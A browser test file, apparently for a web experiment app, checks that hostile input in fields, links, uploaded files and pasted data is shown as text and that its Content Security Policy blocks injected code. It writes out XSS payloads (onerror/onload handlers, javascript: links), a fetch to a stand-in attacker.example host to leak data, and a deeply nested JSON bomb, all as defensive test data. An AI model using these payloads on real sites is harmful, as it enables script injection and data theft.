"""Text from users and links is shown as text, wherever it goes in."""

import json
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, expect

from app.experiment.link import encode, to_file
from app.experiment.presets import PRESETS
from app.experiment.run import trace_of
from app.experiment.sources import Text
from tests.browser.conftest import Incidents, with_experiment
from tests.browser.steps import (
    cell,
    expect_headline,
    graph,
    headline,
    numbers,
    open_table,
    settled,
    shown,
)
from tests.conftest import Server
from tests.experiments import six_steps

HOSTILE = "</script><img src=x onerror=\"window.harmed=1\"><svg onload='window.harmed=1'>"
MARKDOWN = "[x](javascript:alert(1)) ![y](http://attacker.example/y.png) $\\href{javascript:1}{z}$"
INTRUDERS = "img[src=x], svg[onload], [onerror], a[href^=javascript], img[src*=attacker]"


def assert_unharmed(page: Page) -> None:
    settled(page)
    page.wait_for_timeout(300)  # an event handler would have run by now
    assert page.evaluate("window.harmed") is None
    assert page.locator(INTRUDERS).count() == 0


@pytest.mark.parametrize("text", [HOSTILE, MARKDOWN])
def test_every_field_shows_hostile_text_as_text(page: Page, text: str) -> None:
    for box in reversed(page.locator(".ur-editor input[type=text]:visible").all()):
        box.fill(text)  # the last, so the first here, is the title, which takes any text
        box.press("Enter")
        settled(page)
    expect(page.get_by_role("alert").filter(visible=True).first).to_be_visible()
    assert_unharmed(page)
    for box in page.locator(".ur-editor input[type=number]:visible").all():
        box.focus()
        page.keyboard.type(text)
        page.keyboard.press("Enter")
    assert_unharmed(page)


@pytest.mark.parametrize("text", [HOSTILE, MARKDOWN])
def test_a_hostile_text_is_read_character_by_character(page: Page, text: str) -> None:
    page.get_by_label("Source").select_option("text")
    field = page.get_by_label("Text to read")
    field.fill(text)
    field.blur()
    expect(field).to_have_value(text)
    page.wait_for_function(
        "steps => document.querySelector('.st-key-numbers').innerText.includes(steps)",
        arg=f"{len(text) - 1}",
    )
    open_table(page)
    assert_unharmed(page)


@pytest.mark.parametrize("text", [HOSTILE, MARKDOWN])
def test_hostile_links_are_shown_as_text(page: Page, server: Server, text: str) -> None:
    title = six_steps().replace(title=text[:80])
    sequence = PRESETS["text"].experiment.replace(sequence=Text(text=text))
    for address in (
        f"?e={quote(text)}",
        f"?e={encode(title)}",
        f"?e={encode(sequence)}",
        f"?sel={quote(text)}&at={quote(text)}&level={quote(text)}",
        f"?sel=W_hh&at={quote('f:' + text)}&{quote(text)}={quote(text)}#{quote(text)}",
    ):
        page.goto(f"{server.url}/{with_experiment(address)}")
        settled(page)
        assert_unharmed(page)


FILES = [
    ("hostile.json", HOSTILE),
    ("hostile.json", json.dumps({"unrolled": 1, "experiment": {"title": HOSTILE}})),
    ("hostile.json", to_file(six_steps().replace(title=HOSTILE[:80]))),
    ("hostile.csv", f"a,b\n{HOSTILE},1\n"),
    ("hostile.csv", f'"{MARKDOWN}",2\n1,2\n'),
    ("hostile.txt", HOSTILE),
    (f"{HOSTILE.replace('/', '')}.csv", "1\n2\n"),
    (f"{HOSTILE.replace('/', '')}.zip", "PK"),
    ("empty.csv", ""),
    ("deep.json", "[" * 100_000),
]


@pytest.mark.parametrize("files", [FILES[:5], FILES[5:]])
def test_hostile_files_are_refused_or_shown_as_text(
    page: Page, files: list[tuple[str, str]]
) -> None:
    before = headline(page)
    for turn, (name, content) in enumerate(files):
        other = PRESETS[("by_hand", "spiral")[turn % 2]].experiment  # what was said goes with it
        page.get_by_label("Experiment", exact=True).select_option(("by_hand", "spiral")[turn % 2])
        expect_headline(page, "L", shown(trace_of(other).loss or 0.0))
        expect(page.locator(".ur-alert:not([hidden])")).to_have_count(0)
        page.get_by_label("File to open").set_input_files(
            {"name": name, "mimeType": "application/octet-stream", "buffer": content.encode()}
        )
        page.wait_for_function(
            """before => document.querySelector(".st-key-numbers p").innerText !== before
              || [...document.querySelectorAll(".ur-alert, .ur-editor [role=status]")]
                .some((part) => !part.hidden && part.textContent)
              || document.querySelector(".ur-editor select").value === ''""",
            arg=numbers(page).inner_text(),
        )
        assert_unharmed(page)
        assert set(headline(page)) >= set(before) - {"a", "p"}


def test_bytes_that_are_no_text_are_refused(page: Page) -> None:
    page.get_by_label("File to open").set_input_files(
        {"name": "x.csv", "mimeType": "text/csv", "buffer": bytes(range(256))}
    )
    expect(page.get_by_text("expected a text in UTF-8 or UTF-16, got other")).to_be_visible()


def test_the_policy_stops_what_would_slip_through(page: Page, incidents: Incidents) -> None:
    """The second wall: markup that did get in could not run, nor call another host."""
    failures: list[str | None] = []
    page.on("requestfailed", lambda request: failures.append(request.failure))
    page.evaluate(
        """async () => {
          const script = document.createElement("script");
          script.textContent = "window.harmed = 1";
          document.body.append(script);
          const image = document.createElement("img");
          image.src = "http://attacker.example/leak.png";
          document.body.append(image);
          await fetch("http://attacker.example/leak").catch(() => {});
        }"""
    )
    page.wait_for_timeout(300)
    assert page.evaluate("window.harmed") is None
    assert set(failures) == {"csp"}
    refused = [note for note in incidents.seen if "Content Security Policy" in note]
    assert {"inline script", "image", "connect"} <= {
        word for word in ("inline script", "image", "connect") if word in " ".join(refused).lower()
    }
    incidents.seen.clear()  # these were provoked
    told = page.evaluate("() => fetch('/_stcore/host-config').then((answer) => answer.json())")
    assert told["allowedOrigins"] == []  # no page around this one may steer it


def test_a_pasted_block_is_only_numbers(page: Page) -> None:
    box = cell(page, "W_hh", 1, 1)
    box.focus()
    page.evaluate(
        """text => {
          const data = new DataTransfer();
          data.setData("text/plain", text);
          data.setData("text/html", text);
          document.activeElement.dispatchEvent(
            new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true }));
        }""",
        f"1\t2\n{HOSTILE}\t3",
    )
    expect(page.get_by_role("alert").filter(has_text="W_hh")).to_be_visible()
    assert_unharmed(page)
    graph(page).focus()
